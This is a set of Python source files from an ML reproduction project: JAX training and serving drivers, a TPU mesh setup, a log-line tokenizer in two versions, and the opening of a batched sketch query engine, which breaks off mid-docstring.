                   recsys=recsys_param_spec)
