"""Training driver: ``python -m repro.launch.train --arch <id> [...]``.

End-to-end fault-tolerant loop:
  checkpoint restore -> deterministic data stream (seeded per step, so
  resume replays identically) -> jit'd train step (the same step factory
  the dry-run lowers) -> async checkpoint every --ckpt-every steps ->
  straggler monitoring -> graceful SIGTERM drain (final blocking save).

On this CPU container it runs the arch's REDUCED smoke config on a 1x1
mesh (full configs are exercised by the dry-run); on a pod the same
driver takes --full and the production mesh.
"""
from __future__ import annotations

import argparse
import signal
import sys
import time

import numpy as np


def synthetic_batch(spec, cfg, step: int, rng=None):
    """Deterministic per-step batch from the arch's smoke_batch generator
    (seeded by step so restart replays the stream)."""
    rng = np.random.default_rng(1234 + step)
    return spec.smoke_batch(cfg, rng)


def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("--arch", required=True)
    ap.add_argument("--steps", type=int, default=50)
    ap.add_argument("--ckpt-dir", default="/tmp/repro_ckpt")
    ap.add_argument("--ckpt-every", type=int, default=20)
    ap.add_argument("--log-every", type=int, default=10)
    ap.add_argument("--resume", action="store_true")
    args = ap.parse_args(argv)

    import jax
    import jax.numpy as jnp

    from ..configs import get_arch
    from ..optim.adam import AdamConfig, adam_update, init_adam
    from .checkpoint import CheckpointManager
    from .elastic import StragglerMonitor
    from .steps import family_init, family_loss

    from dataclasses import replace

    spec = get_arch(args.arch)
    cfg = spec.smoke_config
    smoke_spec = replace(spec, config=cfg)

    init = family_init(spec, smoke=True)
    loss_fn = family_loss(smoke_spec)
    params = init(jax.random.PRNGKey(0))
    opt = init_adam(params)
    ocfg = AdamConfig(lr=1e-3)

    @jax.jit
    def step_fn(params, opt, batch):
        loss, grads = jax.value_and_grad(loss_fn)(params, batch)
        params, opt, m = adam_update(ocfg, params, grads, opt)
        return params, opt, loss, m["grad_norm"]

    ckpt = CheckpointManager(args.ckpt_dir)
    start_step = 0
    if args.resume:
        restored, rstep = ckpt.restore((params, opt))
        if restored is not None:
            params, opt = restored
            start_step = rstep + 1
            print(f"[train] resumed from step {rstep}")

    stop = {"flag": False}

    def _sigterm(signum, frame):
        stop["flag"] = True
    signal.signal(signal.SIGTERM, _sigterm)

    mon = StragglerMonitor()
    losses = []
    for step in range(start_step, args.steps):
        t0 = time.perf_counter()
        batch = synthetic_batch(spec, cfg, step)
        params, opt, loss, gnorm = step_fn(params, opt, batch)
        loss = float(loss)
        losses.append(loss)
        dt = time.perf_counter() - t0
        straggler = mon.record(dt)
        if step % args.log_every == 0 or straggler:
            print(f"[train] step {step} loss {loss:.4f} "
                  f"gnorm {float(gnorm):.3f} {dt*1e3:.0f}ms"
                  + (" STRAGGLER" if straggler else ""), flush=True)
        if step and step % args.ckpt_every == 0:
            ckpt.save(step, (params, opt))
        if stop["flag"]:
            print("[train] SIGTERM: draining with final checkpoint")
            break
    ckpt.save(args.steps - 1, (params, opt), blocking=True)
    if len(losses) > 10 and not np.isfinite(losses[-1]):
        print("[train] FAILED: non-finite loss")
        return 1
    print(f"[train] done: first loss {losses[0]:.4f} -> "
          f"last {losses[-1]:.4f} (stragglers flagged: {mon.flagged})")
    return 0


if __name__ == "__main__":
    sys.exit(main())
