"""Serving driver: ``python -m repro.launch.serve --arch <id> [...]``.

``--arch dynawarp`` (alias ``copr``) runs the log-store serving loop:
a :class:`~repro.core.serving.StoreServer` wave scheduler over a store
(freshly built, or ``--store <dir>`` to open a durable one), driven by
a pool of concurrent clients; prints q/s, p50/p99 latency, and wave
coalescing stats.  Knobs: ``--clients``, ``--requests`` (per client),
``--replicas``, ``--max-live-waves``, ``--flush-deadline-ms``,
``--cost-model <json>`` (from ``benchmarks/query_throughput.py``).

LM archs: prefill a batch of prompts, then greedy-decode N tokens with
the KV cache (the same prefill/decode_step the dry-run lowers at 32k).
RecSys archs: batched scoring loop (serve kind) with latency stats.
Runs the reduced smoke config on CPU; --full targets the pod mesh.
"""
from __future__ import annotations

import argparse
import sys
import time

import numpy as np


def _serve_dynawarp(args) -> int:
    import os
    import threading

    from ..core.serving import CostModel
    from ..logstore.datasets import (generate_dataset, id_queries,
                                     present_id_queries)
    from ..logstore.store import DynaWarpStore

    if args.store:
        store = DynaWarpStore.open(args.store)
        print(f"[serve] opened store {args.store}: "
              f"{store.n_batches} batches, "
              f"{len(store.segments)} segments", flush=True)
        terms = id_queries(5, 16)       # contents unknown: generic probes
    else:
        ds = generate_dataset("serve", n_lines=args.lines, n_sources=24,
                              seed=11)
        store = DynaWarpStore(batch_lines=64, mode="segmented",
                              memory_limit_bytes=1 << 15)
        store.ingest(ds.lines)
        store.finish()
        print(f"[serve] built store: {store.n_batches} batches, "
              f"{len(store.segments)} segments", flush=True)
        terms = present_id_queries(ds, 5, 16)

    cost_model = None
    if args.cost_model and os.path.exists(args.cost_model):
        cost_model = CostModel.load(args.cost_model)
        print(f"[serve] cost model {args.cost_model}: "
              f"host {cost_model.host_us_per_query:.0f} us/query",
              flush=True)

    server = store.serving(n_replicas=args.replicas,
                           max_live_waves=args.max_live_waves,
                           flush_deadline_s=args.flush_deadline_ms / 1e3,
                           cost_model=cost_model)
    lat: list[list[float]] = [[] for _ in range(args.clients)]

    def client(ci: int) -> None:
        rng = np.random.default_rng(ci)
        for _ in range(args.requests):
            term = terms[int(rng.integers(len(terms)))]
            t0 = time.perf_counter()
            server.query_term(term, timeout=120)
            lat[ci].append(time.perf_counter() - t0)

    server.query_term(terms[0], timeout=300)          # warm-up/compile
    threads = [threading.Thread(target=client, args=(ci,), daemon=True)
               for ci in range(args.clients)]
    t0 = time.perf_counter()
    for th in threads:
        th.start()
    for th in threads:
        th.join(timeout=600)
    dt = time.perf_counter() - t0
    server.close()

    lat_ms = np.asarray([x for per in lat for x in per]) * 1e3
    st = server.scheduler.stats()
    n = len(lat_ms)
    print(f"[serve] {n} queries from {args.clients} clients in {dt:.2f}s "
          f"({n / dt:.1f} q/s)  p50 {np.percentile(lat_ms, 50):.2f}ms  "
          f"p99 {np.percentile(lat_ms, 99):.2f}ms", flush=True)
    print(f"[serve] {st.waves} waves ({st.host_waves} host / "
          f"{st.device_waves} device; {st.size_flushes} size / "
          f"{st.deadline_flushes} deadline flushes), max wave "
          f"{st.max_wave}, replicas used: "
          f"{sorted(st.replica_waves)}", flush=True)
    return 0


def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("--arch", required=True)
    ap.add_argument("--batch", type=int, default=4)
    ap.add_argument("--prompt-len", type=int, default=16)
    ap.add_argument("--decode-tokens", type=int, default=16)
    ap.add_argument("--requests", type=int, default=8)
    # log-store serving knobs (--arch dynawarp)
    ap.add_argument("--store", default=None,
                    help="durable store directory to open (dynawarp)")
    ap.add_argument("--lines", type=int, default=6_000)
    ap.add_argument("--clients", type=int, default=8)
    ap.add_argument("--replicas", type=int, default=2)
    ap.add_argument("--max-live-waves", type=int, default=2)
    ap.add_argument("--flush-deadline-ms", type=float, default=2.0)
    ap.add_argument("--cost-model", default=None,
                    help="bench_costmodel.json from query_throughput")
    args = ap.parse_args(argv)

    if args.arch in ("dynawarp", "copr"):
        if args.requests == 8:          # store default differs from LM
            args.requests = 25
        return _serve_dynawarp(args)

    import jax
    import jax.numpy as jnp

    from ..configs import get_arch
    from ..launch.steps import family_init

    spec = get_arch(args.arch)
    cfg = spec.smoke_config
    params = family_init(spec, smoke=True)(jax.random.PRNGKey(0))
    rng = np.random.default_rng(0)

    if spec.family == "lm":
        from ..models.transformer import decode_step, init_cache, prefill
        B, S = args.batch, args.prompt_len
        max_len = S + args.decode_tokens
        prompts = jnp.asarray(rng.integers(1, cfg.vocab, (B, S)), jnp.int32)

        pf = jax.jit(lambda p, t: prefill(cfg, p, t))
        dec = jax.jit(
            lambda p, c, t, n: decode_step(cfg, p, c, t, n),
            static_argnames=())
        t0 = time.perf_counter()
        cache_pref, logits = pf(params, prompts)
        cache = init_cache(cfg, B, max_len, cfg.compute_dtype)
        cache = {
            "k": cache["k"].at[:, :, :S].set(cache_pref["k"]),
            "v": cache["v"].at[:, :, :S].set(cache_pref["v"]),
        }
        tok = jnp.argmax(logits, -1).astype(jnp.int32)
        out_tokens = [tok]
        for i in range(args.decode_tokens - 1):
            cache, tok, _ = jax.jit(
                lambda p, c, t, i=S + i: decode_step(cfg, p, c, t, i)
            )(params, cache, tok)
            out_tokens.append(tok)
        dt = time.perf_counter() - t0
        gen = jnp.stack(out_tokens, 1)
        print(f"[serve] generated {gen.shape} tokens in {dt:.2f}s "
              f"({B * args.decode_tokens / dt:.1f} tok/s incl. compile)")
        print("[serve] sample:", np.asarray(gen[0][:8]))
        return 0

    # recsys batched scoring
    from ..launch.steps import serve_fn
    from dataclasses import replace as dc_replace
    smoke_spec = dc_replace(spec, config=cfg)
    shape = spec.shapes["serve_p99"]
    fn = jax.jit(serve_fn(smoke_spec, shape))
    lat = []
    for r in range(args.requests):
        batch = spec.smoke_batch(cfg, np.random.default_rng(r))
        if "cand" not in batch and spec.id != "xdeepfm" \
                and spec.id != "two-tower-retrieval":
            batch["cand"] = jnp.asarray(
                np.random.default_rng(r).integers(
                    1, getattr(cfg, "n_items", 100), (len(next(iter(
                        batch.values()))), 32)), jnp.int32)
        t0 = time.perf_counter()
        if spec.id == "xdeepfm":
            from ..models.recsys import xdeepfm_logits
            scores = xdeepfm_logits(cfg, params, batch["idx"])
        elif spec.id == "two-tower-retrieval":
            from ..models.recsys import twotower_serve
            scores = twotower_serve(cfg, params, batch)
        else:
            scores = fn(params, batch)
        scores.block_until_ready()
        lat.append(time.perf_counter() - t0)
    lat_ms = np.asarray(lat[1:]) * 1e3  # drop compile
    print(f"[serve] {args.requests} requests; p50 {np.percentile(lat_ms, 50):.2f}ms "
          f"p99 {np.percentile(lat_ms, 99):.2f}ms scores {scores.shape}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
