"""Serving driver: ``python -m repro.launch.serve --arch <id> [...]``.

LM archs: prefill a batch of prompts, then greedy-decode N tokens with
the KV cache (the same prefill/decode_step the dry-run lowers at 32k).
RecSys archs: batched scoring loop (serve kind) with latency stats.
Runs the reduced smoke config on CPU; --full targets the pod mesh.
"""
from __future__ import annotations

import argparse
import sys
import time

import numpy as np


def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("--arch", required=True)
    ap.add_argument("--batch", type=int, default=4)
    ap.add_argument("--prompt-len", type=int, default=16)
    ap.add_argument("--decode-tokens", type=int, default=16)
    ap.add_argument("--requests", type=int, default=8)
    args = ap.parse_args(argv)

    import jax
    import jax.numpy as jnp

    from ..configs import get_arch
    from ..launch.steps import family_init

    spec = get_arch(args.arch)
    cfg = spec.smoke_config
    params = family_init(spec, smoke=True)(jax.random.PRNGKey(0))
    rng = np.random.default_rng(0)

    if spec.family == "lm":
        from ..models.transformer import decode_step, init_cache, prefill
        B, S = args.batch, args.prompt_len
        max_len = S + args.decode_tokens
        prompts = jnp.asarray(rng.integers(1, cfg.vocab, (B, S)), jnp.int32)

        pf = jax.jit(lambda p, t: prefill(cfg, p, t))
        dec = jax.jit(
            lambda p, c, t, n: decode_step(cfg, p, c, t, n),
            static_argnames=())
        t0 = time.perf_counter()
        cache_pref, logits = pf(params, prompts)
        cache = init_cache(cfg, B, max_len, cfg.compute_dtype)
        cache = {
            "k": cache["k"].at[:, :, :S].set(cache_pref["k"]),
            "v": cache["v"].at[:, :, :S].set(cache_pref["v"]),
        }
        tok = jnp.argmax(logits, -1).astype(jnp.int32)
        out_tokens = [tok]
        for i in range(args.decode_tokens - 1):
            cache, tok, _ = jax.jit(
                lambda p, c, t, i=S + i: decode_step(cfg, p, c, t, i)
            )(params, cache, tok)
            out_tokens.append(tok)
        dt = time.perf_counter() - t0
        gen = jnp.stack(out_tokens, 1)
        print(f"[serve] generated {gen.shape} tokens in {dt:.2f}s "
              f"({B * args.decode_tokens / dt:.1f} tok/s incl. compile)")
        print("[serve] sample:", np.asarray(gen[0][:8]))
        return 0

    # recsys batched scoring
    from ..launch.steps import serve_fn
    from dataclasses import replace as dc_replace
    smoke_spec = dc_replace(spec, config=cfg)
    shape = spec.shapes["serve_p99"]
    fn = jax.jit(serve_fn(smoke_spec, shape))
    lat = []
    for r in range(args.requests):
        batch = spec.smoke_batch(cfg, np.random.default_rng(r))
        if "cand" not in batch and spec.id != "xdeepfm" \
                and spec.id != "two-tower-retrieval":
            batch["cand"] = jnp.asarray(
                np.random.default_rng(r).integers(
                    1, getattr(cfg, "n_items", 100), (len(next(iter(
                        batch.values()))), 32)), jnp.int32)
        t0 = time.perf_counter()
        if spec.id == "xdeepfm":
            from ..models.recsys import xdeepfm_logits
            scores = xdeepfm_logits(cfg, params, batch["idx"])
        elif spec.id == "two-tower-retrieval":
            from ..models.recsys import twotower_serve
            scores = twotower_serve(cfg, params, batch)
        else:
            scores = fn(params, batch)
        scores.block_until_ready()
        lat.append(time.perf_counter() - t0)
    lat_ms = np.asarray(lat[1:]) * 1e3  # drop compile
    print(f"[serve] {args.requests} requests; p50 {np.percentile(lat_ms, 50):.2f}ms "
          f"p99 {np.percentile(lat_ms, 99):.2f}ms scores {scores.shape}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
