"""Production mesh construction.

IMPORTANT: importing this module never touches jax device state — meshes
are built lazily inside functions so smoke tests see 1 CPU device while
the dry-run (which sets XLA_FLAGS=--xla_force_host_platform_device_count=512
before any jax import) sees the full placeholder pod.
"""
from __future__ import annotations

import jax


def make_production_mesh(*, multi_pod: bool = False):
    """16x16 = 256 chips/pod; 2 pods = 512 chips multi-pod."""
    shape = (2, 16, 16) if multi_pod else (16, 16)
    axes = ("pod", "data", "model") if multi_pod else ("data", "model")
    return jax.make_mesh(shape, axes)


def make_host_mesh():
    """Single-device mesh with the production axis names — lets every
    sharding rule run unchanged in CPU smoke tests."""
    return jax.make_mesh((1, 1), ("data", "model"))


HW = dict(
    # TPU v5e-like target constants (per chip)
    peak_flops_bf16=197e12,       # FLOP/s
    hbm_bw=819e9,                 # B/s
    ici_bw=50e9,                  # B/s per link
    hbm_bytes=16 * 2**30,
)
