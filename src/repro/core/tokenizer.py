"""Tokenization rules 1-8 from the paper (§5.1.1 "Ingest configuration").

  (1) runs of alphanumeric ASCII characters
  (2) runs of non-alphanumeric, non-whitespace ASCII characters
  (3) runs of non-ASCII characters
  (4) two alphanumeric tokens joined by a single separator [.:-_/@]
  (5) three alphanumeric tokens joined by single '.' characters
  (6) every 3-gram of each alphanumeric token
  (7) every 1-/2-/3-gram of each non-alphanumeric ASCII token
  (8) every 2-gram of each non-ASCII token

Tokens are lower-cased and hashed as UTF-8 bytes.  Rules 1-5 yield the
*term* vocabulary; rules 6-8 yield the n-gram vocabulary enabling
``contains`` queries on arbitrary substrings (DynaWarp/CSC mode).  The
Lucene-analogue inverted index only uses rules 1-5 and answers contains
queries by scanning its lexicon, exactly as in the paper.
"""
from __future__ import annotations

import re
from typing import Iterable

import numpy as np

_ALNUM = re.compile(r"[0-9A-Za-z]+")
_PUNCT = re.compile(r"[!-/:-@\[-`{-~]+")
_NONASCII = re.compile(r"[^\x00-\x7F]+")
_SEPARATORS = set(".:-_/@")

MAX_TOKEN_BYTES = 64  # packed-matrix row width for batched hashing


def _ngrams(s: str, n: int) -> Iterable[str]:
    if len(s) < n:
        return ()
    return (s[i:i + n] for i in range(len(s) - n + 1))


def scan_line(lower: str):
    """Rule 1-5 scan of one LOWERED line, shared by every tokenization
    path: ``(alnum_runs, punct_runs, nonascii_runs, joined)`` where
    ``joined`` holds the rule-4 separator pairs and rule-5 dot triples."""
    spans = [(m.start(), m.end(), m.group()) for m in _ALNUM.finditer(lower)]
    alnum = [t for _, _, t in spans]
    punct = [m.group() for m in _PUNCT.finditer(lower)]
    nonascii = [m.group() for m in _NONASCII.finditer(lower)]
    joined: list[str] = []
    # rule 4: pairs across a single separator char
    for (s0, e0, _), (s1, e1, _) in zip(spans, spans[1:]):
        if s1 - e0 == 1 and lower[e0] in _SEPARATORS:
            joined.append(lower[s0:e1])
    # rule 5: triples across single '.' chars
    for i in range(len(spans) - 2):
        s0, e0, _ = spans[i]
        s1, e1, _ = spans[i + 1]
        s2, e2, _ = spans[i + 2]
        if s1 - e0 == 1 and lower[e0] == "." \
                and s2 - e1 == 1 and lower[e1] == ".":
            joined.append(lower[s0:e2])
    return alnum, punct, nonascii, joined


def tokenize_line(line: str, *, ngrams: bool = True) -> set[bytes]:
    """All indexed tokens for one log line.

    ``ngrams=False`` disables rules 6-8 (the Lucene-store configuration,
    and the paper's noted 43-60% ingest-time saving when contains queries
    are not required).
    """
    out: set[str] = set()
    alnum, punct, nonascii, joined = scan_line(line.lower())
    # rule 1 (+ rule 6)
    for tok in alnum:
        out.add(tok)
        if ngrams:
            out.update(_ngrams(tok, 3))
    # rule 2 (+ rule 7)
    for tok in punct:
        out.add(tok)
        if ngrams:
            out.update(_ngrams(tok, 1))
            out.update(_ngrams(tok, 2))
            out.update(_ngrams(tok, 3))
    # rule 3 (+ rule 8)
    for tok in nonascii:
        out.add(tok)
        if ngrams:
            out.update(_ngrams(tok, 2))
    out.update(joined)
    return {t.encode("utf-8")[:MAX_TOKEN_BYTES] for t in out}


def tokenize_lines_columnar(lines, *, ngrams: bool = True):
    """Columnar tokenization of a batch of lines for the vectorized ingest
    pipeline.  Python only extracts the regex *runs* and the rule-4/5
    joins; the n-gram explosion of rules 6/7 is deferred to the vectorized
    byte-window hasher (``hashing.np_window_fingerprints``) over the
    packed run matrices — no per-n-gram substring objects on the hot path.

    Returns ``(tokens, tok_line, alnum_runs, alnum_line, punct_runs,
    punct_line)``: rules 1-5 terms (plus the rare rule-8 char-level
    n-grams of non-ASCII runs, expanded here because UTF-8 byte windows
    differ from char windows) with their line ids, and the rule-6/7 run
    byte strings with theirs.  Run lists are empty when ``ngrams=False``.
    """
    tokens: list[bytes] = []
    tok_line: list[int] = []
    alnum_runs: list[bytes] = []
    alnum_line: list[int] = []
    punct_runs: list[bytes] = []
    punct_line: list[int] = []
    for li, line in enumerate(lines):
        n0 = len(tokens)
        alnum, punct, nonascii, joined = scan_line(line.lower())
        tokens.extend(t.encode() for t in alnum)
        if ngrams and alnum:
            alnum_runs.extend(t.encode() for t in alnum)
            alnum_line.extend([li] * len(alnum))
        for t in punct:
            enc = t.encode()
            tokens.append(enc)
            if ngrams:
                punct_runs.append(enc)
                punct_line.append(li)
        for t in nonascii:
            tokens.append(t.encode("utf-8"))
            if ngrams:
                tokens.extend(g.encode("utf-8") for g in _ngrams(t, 2))
        tokens.extend(t.encode() for t in joined)
        tok_line.extend([li] * (len(tokens) - n0))
    return (tokens, tok_line, alnum_runs, alnum_line, punct_runs,
            punct_line)


def term_query_tokens(term: str) -> list[bytes]:
    """Tokens to look up for a ``term`` query (the exact token)."""
    return [term.lower().encode("utf-8")[:MAX_TOKEN_BYTES]]


def contains_query_tokens(term: str) -> list[bytes]:
    """Guaranteed-present tokens for a ``contains`` (substring) query.

    Any log line containing ``term`` as a substring must have indexed every
    interior n-gram of the query under rules 6-8; full runs in the query may
    be partial runs in the data, so only n-grams (never the runs themselves)
    are guaranteed.  An empty result means the sketch cannot prune for this
    query and the caller must fall back to a full scan.
    """
    lower = term.lower()
    out: set[str] = set()
    for m in _ALNUM.finditer(lower):
        out.update(_ngrams(m.group(), 3))
    for m in _PUNCT.finditer(lower):
        tok = m.group()
        out.update(_ngrams(tok, 1))
        out.update(_ngrams(tok, 2))
        out.update(_ngrams(tok, 3))
    for m in _NONASCII.finditer(lower):
        out.update(_ngrams(m.group(), 2))
    return [t.encode("utf-8")[:MAX_TOKEN_BYTES] for t in sorted(out)]


def pack_tokens(tokens: list[bytes], max_len: int = MAX_TOKEN_BYTES
                ) -> tuple[np.ndarray, np.ndarray]:
    """Pack variable-length byte tokens into a zero-padded (N, L) u8 matrix
    + length vector, the input format of the batched fingerprint hashers."""
    n = len(tokens)
    mat = np.zeros((n, max_len), dtype=np.uint8)
    lengths = np.zeros((n,), dtype=np.int32)
    for i, t in enumerate(tokens):
        t = t[:max_len]
        mat[i, :len(t)] = np.frombuffer(t, dtype=np.uint8)
        lengths[i] = len(t)
    return mat, lengths


def pack_slices(bu8: np.ndarray, starts: np.ndarray, lens: np.ndarray,
                max_len: int | None = None
                ) -> tuple[np.ndarray, np.ndarray]:
    """Scatter (start, len) slices of a flat u8 buffer into a zero-padded
    (N, L) matrix + length vector — the vectorized core of token packing
    (no per-token byte objects)."""
    n = len(starts)
    L = max(int(lens.max()) if n else 1, 1)
    if max_len is not None:
        L = min(L, max_len)
    cl = np.minimum(lens, L)
    total = int(cl.sum())
    rows = np.repeat(np.arange(n), cl)
    ends = np.cumsum(cl)
    local = np.arange(total, dtype=np.int64) - np.repeat(ends - cl, cl)
    mat = np.zeros((n, L), dtype=np.uint8)
    mat[rows, local] = bu8[np.repeat(starts, cl) + local]
    return mat, cl.astype(np.int32)


def pack_tokens_batch(tokens: list[bytes], max_len: int = MAX_TOKEN_BYTES
                      ) -> tuple[np.ndarray, np.ndarray]:
    """Vectorized :func:`pack_tokens`: one ``b"".join`` + a single
    :func:`pack_slices` scatter instead of a per-token python loop (the
    columnar ingest path packs whole flush batches of tokens at once)."""
    n = len(tokens)
    if n == 0:
        return np.zeros((0, max_len), np.uint8), np.zeros(0, np.int32)
    flat = np.frombuffer(b"".join(tokens), dtype=np.uint8)
    full = np.fromiter((len(t) for t in tokens), dtype=np.int64, count=n)
    starts = np.concatenate([[0], np.cumsum(full[:-1])])
    mat, lengths = pack_slices(flat, starts, full, max_len)
    # pad the matrix to the requested width (fingerprint callers rely on
    # the length vector, not the width, so this is shape-compat only)
    if mat.shape[1] < max_len:
        mat = np.pad(mat, ((0, 0), (0, max_len - mat.shape[1])))
    return mat, lengths
