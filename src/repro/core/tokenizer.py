"""Tokenization rules 1-8 from the paper (§5.1.1 "Ingest configuration").

  (1) runs of alphanumeric ASCII characters
  (2) runs of non-alphanumeric, non-whitespace ASCII characters
  (3) runs of non-ASCII characters
  (4) two alphanumeric tokens joined by a single separator [.:-_/@]
  (5) three alphanumeric tokens joined by single '.' characters
  (6) every 3-gram of each alphanumeric token
  (7) every 1-/2-/3-gram of each non-alphanumeric ASCII token
  (8) every 2-gram of each non-ASCII token

Tokens are lower-cased and hashed as UTF-8 bytes.  Rules 1-5 yield the
*term* vocabulary; rules 6-8 yield the n-gram vocabulary enabling
``contains`` queries on arbitrary substrings (DynaWarp/CSC mode).  The
Lucene-analogue inverted index only uses rules 1-5 and answers contains
queries by scanning its lexicon, exactly as in the paper.
"""
from __future__ import annotations

import re
from typing import Iterable

import numpy as np

_ALNUM = re.compile(r"[0-9A-Za-z]+")
_PUNCT = re.compile(r"[!-/:-@\[-`{-~]+")
_NONASCII = re.compile(r"[^\x00-\x7F]+")
_SEPARATORS = set(".:-_/@")

MAX_TOKEN_BYTES = 64  # packed-matrix row width for batched hashing


def _ngrams(s: str, n: int) -> Iterable[str]:
    if len(s) < n:
        return ()
    return (s[i:i + n] for i in range(len(s) - n + 1))


def tokenize_line(line: str, *, ngrams: bool = True) -> set[bytes]:
    """All indexed tokens for one log line.

    ``ngrams=False`` disables rules 6-8 (the Lucene-store configuration,
    and the paper's noted 43-60% ingest-time saving when contains queries
    are not required).
    """
    out: set[str] = set()
    lower = line.lower()

    alnum_spans = [(m.start(), m.end(), m.group()) for m in _ALNUM.finditer(lower)]
    # rule 1 (+ rule 6)
    for _, _, tok in alnum_spans:
        out.add(tok)
        if ngrams:
            out.update(_ngrams(tok, 3))
    # rule 2 (+ rule 7)
    for m in _PUNCT.finditer(lower):
        tok = m.group()
        out.add(tok)
        if ngrams:
            out.update(_ngrams(tok, 1))
            out.update(_ngrams(tok, 2))
            out.update(_ngrams(tok, 3))
    # rule 3 (+ rule 8)
    for m in _NONASCII.finditer(lower):
        tok = m.group()
        out.add(tok)
        if ngrams:
            out.update(_ngrams(tok, 2))
    # rule 4: pairs across a single separator char
    for (s0, e0, t0), (s1, e1, t1) in zip(alnum_spans, alnum_spans[1:]):
        if s1 - e0 == 1 and lower[e0] in _SEPARATORS:
            out.add(lower[s0:e1])
    # rule 5: triples across single '.' chars
    for i in range(len(alnum_spans) - 2):
        s0, e0, _ = alnum_spans[i]
        s1, e1, _ = alnum_spans[i + 1]
        s2, e2, _ = alnum_spans[i + 2]
        if s1 - e0 == 1 and lower[e0] == "." and s2 - e1 == 1 and lower[e1] == ".":
            out.add(lower[s0:e2])
    return {t.encode("utf-8")[:MAX_TOKEN_BYTES] for t in out}


def term_query_tokens(term: str) -> list[bytes]:
    """Tokens to look up for a ``term`` query (the exact token)."""
    return [term.lower().encode("utf-8")[:MAX_TOKEN_BYTES]]


def contains_query_tokens(term: str) -> list[bytes]:
    """Guaranteed-present tokens for a ``contains`` (substring) query.

    Any log line containing ``term`` as a substring must have indexed every
    interior n-gram of the query under rules 6-8; full runs in the query may
    be partial runs in the data, so only n-grams (never the runs themselves)
    are guaranteed.  An empty result means the sketch cannot prune for this
    query and the caller must fall back to a full scan.
    """
    lower = term.lower()
    out: set[str] = set()
    for m in _ALNUM.finditer(lower):
        out.update(_ngrams(m.group(), 3))
    for m in _PUNCT.finditer(lower):
        tok = m.group()
        out.update(_ngrams(tok, 1))
        out.update(_ngrams(tok, 2))
        out.update(_ngrams(tok, 3))
    for m in _NONASCII.finditer(lower):
        out.update(_ngrams(m.group(), 2))
    return [t.encode("utf-8")[:MAX_TOKEN_BYTES] for t in sorted(out)]


def pack_tokens(tokens: list[bytes], max_len: int = MAX_TOKEN_BYTES
                ) -> tuple[np.ndarray, np.ndarray]:
    """Pack variable-length byte tokens into a zero-padded (N, L) u8 matrix
    + length vector, the input format of the batched fingerprint hashers."""
    n = len(tokens)
    mat = np.zeros((n, max_len), dtype=np.uint8)
    lengths = np.zeros((n,), dtype=np.int32)
    for i, t in enumerate(tokens):
        t = t[:max_len]
        mat[i, :len(t)] = np.frombuffer(t, dtype=np.uint8)
        lengths[i] = len(t)
    return mat, lengths
