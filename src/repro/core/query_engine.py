"""Batched device query engine — the store-facing read path.

The paper's Algorithm 3 is a sequential host loop; the engine evaluates
*waves* of queries fully on-device — one probe dispatch per segment plus
one reduce dispatch per wave:

  * **Per-segment device cache** — every segment's flat sketch buffers
    (:meth:`ImmutableSketch.device_cache`) are uploaded once per process
    and reused by all later waves; queries stream only fingerprints.
  * **Shape-bucketed batching** — Q queries x T token fingerprints are
    packed into padded (Q_bucket, T_bucket) arrays (powers of two), so
    repeated waves hit one jit cache entry per bucket shape.  The MPHF
    lookup runs through the Pallas ``sketch_probe`` kernel and the
    T-axis boolean reduction through the Pallas ``bitset_ops`` kernel.
  * **Multi-segment fan-out** — per-spill immutable segments stay
    queryable (no monolithic merge): each segment contributes per-token
    posting bitmaps, OR-ed across segments before the AND/OR consumer.
    A token's posting set is the union of its per-segment sets, so the
    fan-out result is bit-identical to the merged-sketch result.
  * **Host fallback** — segments built without bitmap planes (plane
    budget exceeded) are probed on the host, with an LRU cache of
    decoded BIC posting lists, and their bitmaps OR-ed into the wave.
  * **Device candidate extraction** — the combined hit bitmaps compact
    into posting-id lists on device (Pallas ``bitmap_extract`` kernel /
    jnp ref), so only a (Q, max_hits) id tensor crosses to host; the
    host-mode fallback decodes rows via an LRU-cached flatnonzero word
    decode instead of a full ``np.unpackbits`` bit matrix.

Semantics match ``query.query_and`` / ``query_or`` exactly: an absent
token zeroes its bitmap (AND -> empty), an empty query returns empty.
"""
from __future__ import annotations

from collections import OrderedDict

import numpy as np

import jax
import jax.numpy as jnp

from .hashing import token_fingerprint

_MIN_Q_BUCKET = 8
_MIN_T_BUCKET = 1
_MIN_HITS_BUCKET = 8


def _bucket(n: int, lo: int) -> int:
    """Next power of two >= max(n, lo)."""
    return 1 << (max(n, lo) - 1).bit_length()


def _as_fp(tok) -> int:
    if isinstance(tok, (bytes, bytearray)):
        return token_fingerprint(tok)
    return int(tok)


class QueryEngine:
    """Evaluates query waves against one or more immutable segments."""

    def __init__(self, segments, *, n_postings: int | None = None,
                 lru_lists: int = 4096, bitset_kernel: bool | None = None,
                 extract_on_device: bool | None = None):
        self.segments = [s for s in segments if s.n_tokens > 0]
        # The MPHF probe always runs through the Pallas sketch_probe
        # kernel.  The T-axis fold uses the Pallas bitset kernel on real
        # TPU backends; under CPU interpret mode every pallas_call pays
        # a multi-ms interpreter tax, so the default there is the
        # bit-identical jnp fold (the kernel's own oracle).
        if bitset_kernel is None:
            bitset_kernel = jax.default_backend() == "tpu"
        self._use_bitset_kernel = bitset_kernel
        # Batched waves compact hit bitmaps into posting-id lists on
        # device (kernels/bitmap_extract): only the (Q, max_hits) id
        # tensor crosses to host.  ``False`` keeps extraction on the
        # host via the LRU-cached flatnonzero word decode.
        self._extract_on_device = (True if extract_on_device is None
                                   else extract_on_device)
        if n_postings is None:
            n_postings = max((s.n_postings for s in self.segments),
                             default=0)
        self.n_postings = int(n_postings)
        self.words = (max(self.n_postings, 1) + 31) // 32
        self._plane_segs = [(si, s) for si, s in enumerate(self.segments)
                            if s.planes is not None]
        self._host_segs = [(si, s) for si, s in enumerate(self.segments)
                           if s.planes is None]
        self._seg_fns: dict[int, object] = {}
        self._reduce_fns: dict[str, object] = {}
        self._extract_fns: dict[int, object] = {}
        self._lru: OrderedDict[tuple, np.ndarray] = OrderedDict()
        self._lru_cap = lru_lists
        # host-extraction LRU of decoded bitmap rows (keyed by content),
        # alongside the BIC posting-list LRU above
        self._bm_lru: OrderedDict[bytes, np.ndarray] = OrderedDict()
        self.compile_count = 0      # jit traces (one per bucket shape)
        self.upload_count = 0       # segment device-cache uploads

    # ------------------------------------------------------------- public
    def query(self, tokens, *, op: str = "and") -> np.ndarray:
        """Single query: posting ids (sorted int64) matching Alg. 3.

